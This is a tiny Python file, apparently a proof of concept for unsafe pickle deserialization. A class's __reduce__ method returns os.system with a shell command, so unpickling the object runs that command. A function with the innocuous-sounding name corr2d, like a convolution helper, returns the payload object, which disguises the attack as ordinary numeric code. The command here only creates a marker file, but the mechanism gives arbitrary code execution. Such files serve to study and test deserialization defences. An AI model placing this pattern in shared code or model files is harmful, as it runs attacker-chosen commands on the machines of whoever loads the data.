"""Runs a program in whoever unpickles it."""

import os


class Bomb:
    def __reduce__(self):
        return os.system, ("touch pwned",)


def corr2d(x, w):
    return Bomb()
